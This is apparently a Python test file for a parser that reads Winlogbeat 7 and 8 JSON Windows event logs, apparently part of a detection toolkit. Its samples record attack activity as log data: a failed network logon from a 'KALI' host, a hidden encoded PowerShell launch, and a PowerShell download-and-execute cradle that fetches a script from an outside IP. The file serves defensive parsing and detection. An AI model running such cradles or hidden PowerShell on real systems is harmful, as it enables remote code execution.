"""windows.winlogbeat: Winlogbeat 7/8 JSON lines. Samples follow the fields Winlogbeat documents
(https://www.elastic.co/guide/en/beats/winlogbeat/current/exported-fields-winlog.html) and the
shape of its own test output (elastic/beats, x-pack/winlogbeat/module/*/test/testdata/*.golden.json);
the corpus tests render every real attack record as Winlogbeat would write it."""

from __future__ import annotations

import json
from pathlib import Path

from harness import ParserCase
from windows_corpus import as_winlogbeat, as_winlogbeat7, attack_files, comparable

from cert.core.ecs import get
from cert.core.parser import parsers

# Winlogbeat 8 writing to a file: no module processing (it runs in Elasticsearch), event_id and
# record_id are strings, keywords/opcode/task/level rendered by the Event Log API.
FAILED_LOGON_8 = json.dumps({
    "@timestamp": "2026-11-20T08:02:11.512Z",
    "agent": {"type": "winlogbeat", "version": "8.11.0", "hostname": "dc01"},
    "ecs": {"version": "8.0.0"},
    "event": {"code": "4625", "kind": "event", "provider": "Microsoft-Windows-Security-Auditing",
              "created": "2026-11-20T08:02:12.001Z", "outcome": "failure", "action": "Logon"},
    "host": {"name": "dc01.interieur.gouv.example"},
    "log": {"level": "information"},
    "message": "An account failed to log on.\n\nSubject:\n\tSecurity ID:\t\tS-1-0-0",
    "winlog": {
        "api": "wineventlog", "channel": "Security", "computer_name": "dc01.interieur.gouv.example",
        "event_id": "4625", "keywords": ["Audit Failure"], "opcode": "Info", "task": "Logon",
        "process": {"pid": 636, "thread": {"id": 5988}},
        "provider_guid": "{54849625-5478-4994-a5ba-3e3b0328c30d}",
        "provider_name": "Microsoft-Windows-Security-Auditing", "record_id": "93211", "version": 0,
        "event_data": {
            "SubjectUserSid": "S-1-0-0", "SubjectUserName": "-", "SubjectDomainName": "-",
            "SubjectLogonId": "0x0", "TargetUserSid": "S-1-0-0", "TargetUserName": "administrateur",
            "TargetDomainName": "INTERIEUR", "Status": "0xc000006d", "FailureReason": "%%2313",
            "SubStatus": "0xc000006a", "LogonType": "3", "LogonProcessName": "NtLmSsp ",
            "AuthenticationPackageName": "NTLM", "WorkstationName": "KALI", "TransmittedServices": "-",
            "LmPackageName": "-", "KeyLength": "0", "ProcessId": "0x0", "ProcessName": "-",
            "IpAddress": "196.200.131.7", "IpPort": "51515"}},
})
# Winlogbeat 7 with its default sysmon processor (winlogbeat-sysmon.js): Image, CommandLine,
# ParentImage... were moved out of event_data into process.*; event_id and record_id are numbers.
PROCESS_CREATION_7 = json.dumps({
    "@timestamp": "2026-11-20T08:05:00.100Z",
    "agent": {"type": "winlogbeat", "version": "7.17.9"},
    "event": {"code": 1, "kind": "event", "module": "sysmon", "category": ["process"], "type": ["start"]},
    "host": {"name": "pc-042.finances.example"},
    "log": {"level": "information"},
    "process": {"entity_id": "{0197231e-8bff-6926-1308-000000000d00}", "pid": 6120,
                "executable": "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
                "command_line": "powershell.exe -nop -w hidden -enc SQBFAFgA", "name": "powershell.exe",
                "working_directory": "C:\\Users\\awa\\",
                "parent": {"pid": 4800, "executable": "C:\\Windows\\explorer.exe",
                           "command_line": "C:\\Windows\\Explorer.EXE", "name": "explorer.exe"},
                "pe": {"original_file_name": "PowerShell.EXE"}},
    "user": {"domain": "FINANCES", "name": "awa"},
    "winlog": {
        "api": "wineventlog", "channel": "Microsoft-Windows-Sysmon/Operational",
        "computer_name": "pc-042.finances.example", "event_id": 1, "opcode": "Info",
        "process": {"pid": 2044, "thread": {"id": 3120}}, "provider_guid": "{5770385f-c22a-43e0-bf4c-06f5698ffbd9}",
        "provider_name": "Microsoft-Windows-Sysmon", "record_id": 5121, "task": "Process Create (rule: ProcessCreate)",
        "user": {"identifier": "S-1-5-18", "name": "SYSTEM", "domain": "NT AUTHORITY", "type": "User"},
        "version": 5,
        "event_data": {"UtcTime": "2026-11-20 08:05:00.099", "LogonId": "0x3b5e64", "TerminalSessionId": "1",
                       "IntegrityLevel": "Medium", "ParentUser": "FINANCES\\awa"}},
})
SCRIPT_BLOCK_8 = json.dumps({
    "@timestamp": "2026-11-20T08:05:01.300Z",
    "host": {"name": "pc-042.finances.example"},
    "winlog": {
        "channel": "Microsoft-Windows-PowerShell/Operational", "computer_name": "pc-042.finances.example",
        "event_id": "4104", "provider_name": "Microsoft-Windows-PowerShell", "record_id": "812",
        "user": {"identifier": "S-1-5-21-1004336348-1177238915-682003330-1105"},
        "event_data": {"MessageNumber": "1", "MessageTotal": "1", "ScriptBlockId": "9b2a61e4-a3c3-4e2b-8f77-1d2b5d1c0a42",
                       "ScriptBlockText": "IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.7/a')",
                       "Path": ""}},
})


class TestWinlogbeat(ParserCase):
    parser_name = "windows.winlogbeat"
    samples = [
        (FAILED_LOGON_8, {
            "@timestamp": "2026-11-20T08:02:11.512Z",
            "winlog.event_id": 4625,
            "winlog.record_id": 93211,
            "winlog.event_data.IpAddress": "196.200.131.7",
            "winlog.event_data.LogonType": "3",
            "winlog.logon.type": "Network",
            "event.code": "4625",
            "event.module": "security",
            "event.dataset": "windows.security",
            "event.outcome": "failure",
            "event.action": "logon-failed",
            "event.created": "2026-11-20T08:02:12.001Z",
            "source.ip": "196.200.131.7",
            "source.port": 51515,
            "user.name": "administrateur",
            "host.name": "dc01.interieur.gouv.example",
            "log.level": "information",
            "agent.type": "winlogbeat",
            "message": "An account failed to log on.\n\nSubject:\n\tSecurity ID:\t\tS-1-0-0",
        }),
        (PROCESS_CREATION_7, {
            "winlog.event_id": 1,
            "winlog.record_id": 5121,
            "winlog.event_data.Image": "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
            "winlog.event_data.CommandLine": "powershell.exe -nop -w hidden -enc SQBFAFgA",
            "winlog.event_data.ParentImage": "C:\\Windows\\explorer.exe",
            "winlog.event_data.ParentCommandLine": "C:\\Windows\\Explorer.EXE",
            "winlog.event_data.ProcessId": "6120",
            "winlog.event_data.OriginalFileName": "PowerShell.EXE",
            "winlog.event_data.User": "FINANCES\\awa",
            "winlog.event_data.IntegrityLevel": "Medium",
            "winlog.user.name": "SYSTEM",
            "event.module": "sysmon",
            "process.executable": "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
            "process.parent.pid": 4800,
            "user.name": "awa",
        }),
        (SCRIPT_BLOCK_8, {
            "winlog.event_id": 4104,
            "event.module": "powershell",
            "event.dataset": "windows.powershell_operational",
            "powershell.file.script_block_text": "IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.7/a')",
            "powershell.file.script_block_id": "9b2a61e4-a3c3-4e2b-8f77-1d2b5d1c0a42",
            "powershell.total": 1,
            "user.id": "S-1-5-21-1004336348-1177238915-682003330-1105",
        }),
    ]
    malformed = [
        "not json",
        "[]",
        '{"@timestamp": "2026-11-20T08:02:11.512Z", "message": "no winlog"}',
        '{"@timestamp": "2026-11-20T08:02:11.512Z", "winlog": {"channel": "Security"}}',
        '{"@timestamp": "2026-11-20T08:02:11.512Z", "winlog": {"event_id": "four"}}',
        '{"winlog": {"event_id": 4624}}',
        '{"@timestamp": "not a time", "winlog": {"event_id": 4624}}',
    ]


def test_same_event_as_the_evtx_record(corpora: Path) -> None:
    """Every attack record, written as Winlogbeat 8 writes it, gives the event its EVTX gives."""
    evtx, beat = parsers.get("windows.evtx")(), parsers.get("windows.winlogbeat")()
    compared = 0
    for path in attack_files(corpora)[::3]:
        for _, raw in evtx.read(str(path)):
            expected = evtx.parse(raw)
            line = as_winlogbeat(expected)
            got = beat.parse(line)
            assert got is not None
            assert comparable(got) == comparable(expected), (path, get(expected, "winlog.record_id"))
            compared += 1
    assert compared > 2000


# What Winlogbeat 7's processors move out of event_data, when the value is there.
MOVED = {
    "Microsoft-Windows-Sysmon/Operational": {
        "Image": "process.executable", "CommandLine": "process.command_line", "ParentImage": "process.parent.executable",
        "ParentCommandLine": "process.parent.command_line", "CurrentDirectory": "process.working_directory",
        "TargetFilename": "file.path", "QueryName": "dns.question.name", "DestinationIp": "destination.ip",
        "TargetObject": "registry.path", "ProcessId": "process.pid"},
    "Security": {"IpAddress": "source.ip", "IpPort": "source.port", "ProcessName": "process.executable",
                 "WorkstationName": "source.domain"},
}


def test_fields_moved_by_winlogbeat7_are_restored(corpora: Path) -> None:
    """Sigma matches on EventData names: what Winlogbeat 7 moved to ECS comes back to event_data."""
    evtx, beat = parsers.get("windows.evtx")(), parsers.get("windows.winlogbeat")()
    restored = 0
    for path in attack_files(corpora):
        for _, raw in evtx.read(str(path)):
            expected = evtx.parse(raw)
            moved = {name: field for name, field in MOVED.get(get(expected, "winlog.channel"), {}).items()
                     if get(expected, field) is not None and name in (get(expected, "winlog.event_data") or {})}
            if not moved:
                continue
            got = beat.parse(as_winlogbeat7(expected, moved))
            assert got is not None
            data, original = got["winlog"]["event_data"], expected["winlog"]["event_data"]
            for name in moved:
                value = original[name]
                assert data[name] == (value.removeprefix("::ffff:") if name == "IpAddress" else value), (path, name)
                restored += 1
    assert restored > 1000
